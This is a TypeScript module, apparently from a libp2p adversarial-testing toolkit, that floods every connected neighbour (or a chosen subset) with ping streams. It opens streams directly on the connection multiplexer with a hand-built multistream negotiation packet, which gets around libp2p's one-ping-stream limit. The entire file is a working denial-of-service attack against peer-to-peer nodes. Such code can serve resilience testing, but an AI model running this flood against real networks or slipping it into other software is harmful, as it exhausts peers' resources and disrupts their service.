import { repeat } from '@peerwatch/model'
import { muxerOf } from './attackable.ts'
import type { Connection, PeerId, Stream } from '@libp2p/interface'
import type { CallOff, Clock, Timers } from '@peerwatch/model'
import type { Attack, Attackable } from './attackable.ts'

export interface FloodsInit {
  readonly clock: Clock
  /** Ping streams that it opens to each neighbour per second. A stalled process catches up, by one second at most. Default 120. */
  readonly streamsPerSecond?: number | undefined
  /** Streams that may be open to one neighbour at a time. It bounds what a neighbour that does not answer can cost us. Default 64. */
  readonly mostOpen?: number | undefined
  /** The peers to flood. Default: all connected peers. */
  readonly targets?: ((peer: PeerId) => boolean) | undefined
}

const TICK_MS = 50
const CATCH_UP_MS = 1_000
const ANSWER_WITHIN_MS = 1_000

/**
 * Opens ping streams to every neighbour, whichever side dialled and new ones included, far beyond what anybody needs.
 *
 * libp2p's own ping allows itself one stream at a time. So this opens the streams on the multiplexer, with negotiation and ping in one packet.
 */
export function floods(node: Attackable, init: FloodsInit): Attack {
  const { clock, streamsPerSecond = 120, mostOpen = 64, targets = () => true } = init
  let victims = new Map<string, Victim>()
  let callOff: CallOff | undefined

  const tick = (): void => {
    const nowMs = clock.monotonicMs()
    const still = new Map<string, Victim>()
    for (const connection of node.libp2p.getConnections()) {
      const key = connection.remotePeer.toString()
      if (connection.status !== 'open' || still.has(key) || !targets(connection.remotePeer)) continue
      const victim = victims.get(key) ?? { open: new Set(), pacedAtMs: nowMs }
      still.set(key, victim)
      flood(connection, victim, clock, { streamsPerSecond, mostOpen })
    }
    for (const [key, victim] of victims) if (!still.has(key)) drop(victim)
    victims = still
  }
  return {
    start: () => {
      callOff ??= repeat(clock, TICK_MS, tick)
    },
    stop: () => {
      callOff?.()
      callOff = undefined
      for (const victim of victims.values()) drop(victim)
      victims.clear()
    }
  }
}

interface Victim {
  /** Streams that have not ended, each with the function that ends it. */
  readonly open: Set<() => void>
  /** The instant up to which its streams were opened. */
  pacedAtMs: number
}

function flood(connection: Connection, victim: Victim, clock: Clock, limits: { streamsPerSecond: number; mostOpen: number }): void {
  const nowMs = clock.monotonicMs()
  const pauseMs = 1_000 / limits.streamsPerSecond
  victim.pacedAtMs = Math.max(victim.pacedAtMs, nowMs - CATCH_UP_MS)
  while (victim.pacedAtMs + pauseMs <= nowMs && victim.open.size < limits.mostOpen) {
    victim.pacedAtMs += pauseMs
    openPing(connection, victim.open, clock)
  }
}

function drop(victim: Victim): void {
  for (const end of victim.open) end()
}

/** Each message of a negotiation begins with its length. */
const NEGOTIATION = ['/multistream/1.0.0\n', '/ipfs/ping/1.0.0\n'].map(line => String.fromCharCode(line.length) + line).join('')
const PING = new TextEncoder().encode(NEGOTIATION + 'p'.repeat(32))

/**
 * Sends one ping. It ends the stream once the whole answer is there, and resets it if the answer is late or the ping is called off. Never throws: a
 * victim may vanish at any point.
 */
function openPing(connection: Connection, open: Set<() => void>, clock: Timers): void {
  let stream: Stream | undefined
  let received = 0
  const settle = (): void => {
    callOff()
    open.delete(reset)
  }
  const reset = (): void => {
    settle()
    stream?.abort(new Error('called off'))
  }
  const callOff = clock.after(ANSWER_WITHIN_MS, reset)
  open.add(reset)
  const send = async (): Promise<void> => {
    stream = await muxerOf(connection)?.createStream()
    if (stream == null || !open.has(reset)) {
      reset()
      return
    }
    stream.addEventListener('close', settle)
    stream.addEventListener('message', ({ data }) => {
      received += data.byteLength
      if (received < PING.byteLength) return
      settle()
      stream?.close().catch(() => {})
    })
    stream.send(PING)
  }
  send().catch(reset)
}
